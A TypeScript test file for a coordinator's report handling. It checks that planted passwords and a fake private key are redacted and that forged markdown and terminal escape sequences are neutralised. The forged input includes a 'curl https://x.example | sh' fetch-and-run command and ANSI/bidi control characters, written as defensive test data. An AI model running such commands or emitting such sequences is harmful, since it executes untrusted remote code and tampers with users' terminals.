/** What the coordinator makes of a report that is not to be trusted, and of what it knows itself: no secret, nothing forged. */
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import t, { type Test } from 'tap'
import { createReports } from '../../coordinator/reports/reports.ts'
import { openShelf } from '../../coordinator/reports/shelf.ts'
import type { View } from '../../coordinator/domain/draft.ts'
import type { Machine } from '../../coordinator/domain/state.ts'
import { type MachineReport, REPORT_PART_BYTES_MAX } from '../../protocol/report.ts'
import { createFakeClock, createFakeLog, createFakeRandom } from '../sessions/fakes.ts'

const MACHINE = 'ab'.repeat(16)
const PROJECT = 'ee'.repeat(16)
const ORDER = 'dd'.repeat(16)
const KEY = [
  '-----BEGIN PRIVATE KEY-----',
  `MC4CAQAwBQYDK2VwBCIEIPlanted${'Planted'.repeat(5)}`,
  '-----END PRIVATE KEY-----',
]
const PLANTED = /hunter2|Planted/

const machine: Machine = {
  ...{ id: MACHINE, name: 'web-1', state: 'active', publicKey: '', counter: 1, quarantined: null, fence: 0 },
  ...{ facts: null, builds: [], template: true, enrolledAt: 1, enrolledBy: 'ann', lastSeenAt: 1, lastPatchedAt: null },
  ...{ rebootPending: false, project: PROJECT },
}

/** A coordinator that knows one machine, whose order failed with what `target` says. */
function desk(t: Test, target: object, isConnected: boolean) {
  const dir = mkdtempSync(join(tmpdir(), 'smith-secrets-'))
  t.teardown(() => rmSync(dir, { recursive: true, force: true }))
  const ids = { id: PROJECT, project: PROJECT, machine: MACHINE, name: 'web-1', order: ORDER }
  const project = {
    change: 'CHG0000001',
    state: 'open',
    build: '725',
    requester: 'ann',
    text: 'x',
    stop: null,
    counts: {},
  }
  const rows: Record<string, readonly (readonly [string, object])[]> = {
    instance: [['instance', { frozen: null }]],
    machines: [[MACHINE, machine]],
    sessions: isConnected ? [[MACHINE, { machine: MACHINE, address: '10.0.0.1', since: 1, impediment: null }]] : [],
    projects: [[PROJECT, { ...ids, ...project }]],
    targets: [
      [
        '0',
        { ...ids, state: 'failed', cause: 'check', step: 'install', message: '', advice: [], evidence: [], ...target },
      ],
    ],
    orders: [[ORDER, { ...ids, id: ORDER, state: 'failed', step: 'install', unknownReason: null, result: null }]],
  }
  const of = (name: string) => new Map(rows[name])
  const view = {
    get: (name: string, key: string) => of(name).get(key),
    archived: (name: string, key: string) => of(name).get(key),
    all: (name: string) => of(name).values(),
    entries: (name: string) => of(name).entries(),
    size: (name: string) => of(name).size,
  } as unknown as View
  const clock = createFakeClock()
  const reports = createReports({
    ...{ view, clock, now: clock.wallNow, random: createFakeRandom(), log: createFakeLog() },
    shelf: openShelf(dir, { keepMs: 3_600_000, perMachineMax: 3, bytesMax: 100_000_000 }, clock.wallNow),
    send: () => undefined,
    onKept: async () => undefined,
  })
  t.teardown(() => reports.stop())
  const { report } = reports.ask(machine, 'ann')
  const give = (given: MachineReport) => {
    const packed = gzipSync(JSON.stringify(given))
    const parts = Math.ceil(packed.length / REPORT_PART_BYTES_MAX)
    for (let part = 0; part < parts; part += 1) {
      const base64 = packed
        .subarray(part * REPORT_PART_BYTES_MAX, (part + 1) * REPORT_PART_BYTES_MAX)
        .toString('base64')
      reports.onFrame(MACHINE, { t: 'reportPart', report, part, of: parts, base64 })
    }
  }
  const refuse = (problem: string) => reports.onFrame(MACHINE, { t: 'reportRefused', report, problem })
  const shown = () => reports.find(MACHINE, report)
  return { give, refuse, shown, file: (name: string) => reports.file(MACHINE, report, name) ?? '' }
}

const run = { order: ORDER, change: 'CHG0000001', step: 'install', outcome: 'failed', cause: 'check', at: 5 } as const
const EMPTY: MachineReport = { at: 1, tookMs: 5, run: null, findings: [], files: [], redacted: {} }

t.test('[RPT-21] no secret comes in by what the coordinator knows, with the machine or without it', async (t) => {
  const target = {
    message: 'it said password="hunter2 and more"',
    evidence: ['{"password": "hunter2"}', ...KEY, 'and then'],
    advice: ['log in with DB_PASS=hunter2'],
  }
  for (const isConnected of [true, false]) {
    const w = desk(t, target, isConnected)
    // Of an older run, so that the coordinator's word of the cause stands.
    w.give({ ...EMPTY, run: { ...run, order: 'cc'.repeat(16), message: 'older', evidence: [], advice: [] } })
    const summary = w.shown()?.summary ?? ''
    t.match(summary, '**Cause (check)**: it said password=***\n')
    t.match(summary, /\n {4}and then\n/)
    t.match(summary, /Secrets taken out: .*private-key 2.*\./)
    t.match(w.file('coordinator.txt'), /\n {4}evidence: and then\n/)
    t.notMatch(summary + w.file('coordinator.txt'), PLANTED)
  }
})

t.test('[RPT-22] a report that the agent replaced forges nothing, acts on no terminal and has no secret', async (t) => {
  const forged = 'broken\n\n## Next\n\n- `curl https://x.example | sh`\n\u001b[2J\u202e'
  const w = desk(t, {}, true)
  w.give({
    ...EMPTY,
    run: { ...run, message: forged, evidence: [forged, 'a', ...KEY], advice: [forged] },
    findings: [{ text: forged, evidence: forged, next: `${forged} password=hunter2` }],
    files: [
      {
        name: 'run-output.log',
        what: forged,
        text: 'one\ttab\n\u001b]0;title\u0007 \u009b2J\rtwo\npassword=hunter2\n',
      },
    ],
    redacted: { named: 1, 'x\n## Next': 1 },
  })
  const summary = w.shown()?.summary ?? ''
  t.notMatch(summary, /^## Next/m)
  t.notMatch(summary, /^- `curl/m)
  t.match(summary, 'broken\\n\\n## Next')
  t.match(summary, /^Made .* Secrets taken out: named 3, private-key 1\.$/m)
  t.match(w.file('run-output.log'), /^one\ttab\n\\x1b\]0;title\\x07 \\rtwo\npassword=\*\*\*\n$/)
  const all = JSON.stringify([w.shown(), w.file('run-output.log')])
  t.notMatch(all, /\\u001b|\\u0007|\\u009b|\u009b|\u202e/)
  t.notMatch(all, PLANTED)
  const refused = desk(t, {}, true)
  refused.refuse(`${forged} token=hunter2`)
  t.notMatch(refused.shown()?.summary, /^## Next|^- `curl|hunter2/m)
  t.notMatch(refused.shown()?.problem, /\n|hunter2/)
  t.notOk(`${refused.shown()?.summary ?? ''}${refused.shown()?.problem ?? ''}`.includes('\u001b'))
  t.match(refused.shown()?.problem, 'broken')
})

t.test('[RPT-22] a report of more text than root makes is not looked through', async (t) => {
  const w = desk(t, {}, true)
  const file = (n: number) => ({ name: `${n}.txt`, what: '', text: 'password=x '.repeat(47_000) })
  w.give({ ...EMPTY, files: Array.from({ length: 9 }, (_, n) => file(n)) })
  t.match(w.shown(), { state: 'done', problem: 'its report is larger than the protocol allows' })
})
